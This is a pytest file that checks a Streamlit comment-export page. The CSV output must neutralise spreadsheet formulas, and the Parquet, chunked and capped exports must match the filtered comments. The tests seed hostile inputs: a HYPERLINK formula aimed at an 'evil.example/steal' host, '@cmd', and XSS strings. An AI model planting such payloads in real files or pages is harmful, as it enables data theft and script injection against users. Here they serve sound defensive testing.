"""Export: the filtered comments as CSV (exact bytes, formulas neutralised) and Parquet,
built in chunks, capped with a note."""

from __future__ import annotations

import io
from pathlib import PurePosixPath

import pandas as pd
import pyarrow.parquet as pq
import pytest
import streamlit.testing.v1.app_test as app_test
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from desk import export
from desk import store as db
from tests.pages.conftest import (
    HOSTILE_ADVERTISER,
    HOSTILE_TEXTS,
    infos,
    no_errors,
    open_page,
    page_context,
    seed_hostile,
)

PAGE = "pages/6_Export.py"


@pytest.fixture
def media(monkeypatch) -> dict[str, tuple[str, bytes]]:
    """Every file AppTest's media store receives (by file id), so a download button's bytes
    can be read back exactly as a browser would get them."""
    files: dict[str, tuple[str, bytes]] = {}

    class Recording(MemoryMediaFileStorage):
        def load_and_get_id(self, path_or_data, mimetype, kind, filename=None) -> str:
            file_id = super().load_and_get_id(path_or_data, mimetype, kind, filename)
            files[file_id] = (filename, path_or_data)
            return file_id

    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", Recording)
    return files


def downloaded(at, media: dict[str, tuple[str, bytes]]) -> tuple[str, bytes]:
    """The file name and bytes the page's download button offers."""
    [button] = at.get("download_button")
    return media[PurePosixPath(button.proto.url).stem]


def prepare(fmt: str = "csv", query=None):
    at = open_page(PAGE, query=query or {"advertiser": HOSTILE_ADVERTISER})
    at.radio(key="export_format").set_value(fmt)
    at.button(key="export_prepare").click().run()
    no_errors(at)
    return at


def test_csv_download_is_exactly_the_filtered_comments_made_safe(sandbox, store, media):
    seed_hostile(store)
    at = prepare("csv")
    name, data = downloaded(at, media)
    assert name.startswith(f"comments-{HOSTILE_ADVERTISER}-") and name.endswith(".csv")
    filters = db.CommentFilters(HOSTILE_ADVERTISER)
    frame = db.comments_page(store.cursor(), filters, limit=1000)
    expected = export.to_csv_bytes(frame[list(export.CSV_COLUMNS)])
    assert data == expected
    assert data.startswith("\ufeff".encode())
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str,
                        keep_default_na=False)
    assert list(frame.columns) == list(export.CSV_COLUMNS)
    contents = set(frame["content"])
    for hostile in ('=HYPERLINK("http://evil.example/steal","click me")', "+1", "-2+3",
                    "@cmd", "\t=1+1 starts with a tab"):
        assert "'" + hostile in contents and hostile not in contents
    for harmless in ("<img src=x onerror=alert(1)>", "[click](javascript:alert(1))"):
        assert harmless in contents  # text, exactly as written
    assert len(frame) == len(HOSTILE_TEXTS)
    assert at.status[0].proto.state == at.status[0].proto.State.COMPLETE
    assert "Ready: 8 rows" in at.status[0].label


def test_parquet_download_keeps_text_exactly(sandbox, store, media):
    seed_hostile(store)
    at = prepare("parquet")
    name, data = downloaded(at, media)
    assert name.endswith(".parquet")
    table = pq.read_table(io.BytesIO(data)).to_pandas()
    assert sorted(table["content"]) == sorted(HOSTILE_TEXTS)


def test_the_export_follows_the_filters(sandbox, store, media):
    seed_hostile(store)
    at = open_page(PAGE, query={"advertiser": HOSTILE_ADVERTISER})
    at.text_input(key="export_search").input("cmd").run()
    assert "**1 comment**" in at.main.markdown[0].value
    at.button(key="export_prepare").click().run()
    _, data = downloaded(at, media)
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str)
    assert frame["content"].tolist() == ["'@cmd"]
    at.text_input(key="export_search").input("").run()  # other filters: the file is gone
    assert not at.get("download_button")


def test_files_are_built_in_chunks_identical_to_one_piece(sandbox, store, settings):
    seed_hostile(store)
    ctx = page_context(settings, HOSTILE_ADVERTISER)
    filters = db.CommentFilters(HOSTILE_ADVERTISER)
    whole = db.comments_page(store.cursor(), filters, limit=1000)
    seen = []
    csv = export.build_export(ctx.store, filters, "csv", lambda done, wanted: seen.append(done),
                              chunk=3)
    assert csv.data == export.to_csv_bytes(whole[list(export.CSV_COLUMNS)]) and seen == [3, 6, 8]
    parquet = export.build_export(ctx.store, filters, "parquet", chunk=3)
    back = pq.read_table(io.BytesIO(parquet.data)).to_pandas()
    assert back["comment_id"].tolist() == whole["comment_id"].tolist()
    assert back["content"].tolist() == whole["content"].tolist()


def test_a_huge_export_is_capped_with_a_note(sandbox, store, media, monkeypatch):
    seed_hostile(store)
    monkeypatch.setattr(export, "EXPORT_CAP", 3)
    at = prepare("csv")
    assert "Only the newest 3 are exported" in at.warning[0].value
    _, data = downloaded(at, media)
    frame = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str)
    newest = db.comments_page(store.cursor(), db.CommentFilters(HOSTILE_ADVERTISER), limit=3)
    assert frame["comment_id"].tolist() == newest["comment_id"].tolist()
    assert any("newest 3 of 8" in c.value for c in at.main.caption)


def test_nothing_to_export_says_so(synced):
    at = open_page(PAGE, query={"advertiser": synced["WRITER"]})
    at.text_input(key="export_search").input("no comment says this, surely").run()
    no_errors(at)
    assert "nothing to export" in infos(at)[0]
    assert not at.get("download_button")


def test_chunks_over_many_days_keep_the_newest_first_order(synced, store, settings):
    advertiser_id = synced["WRITER"]
    ctx = page_context(settings, advertiser_id)
    filters = db.CommentFilters(advertiser_id)
    whole = db.comments_page(store.cursor(), filters, limit=100_000)
    seen = []
    file = export.build_export(ctx.store, filters, "parquet",
                               lambda done, wanted: seen.append(done), chunk=20)
    back = pq.read_table(io.BytesIO(file.data)).to_pandas()
    assert back["comment_id"].tolist() == whole["comment_id"].tolist()
    assert len(seen) > 5 and seen[-1] == len(whole)
    capped = export.build_export(ctx.store, filters, "parquet", chunk=20, cap=50)
    back = pq.read_table(io.BytesIO(capped.data)).to_pandas()
    assert back["comment_id"].tolist() == whole["comment_id"].tolist()[:50]
    assert capped.truncated and capped.total == len(whole)
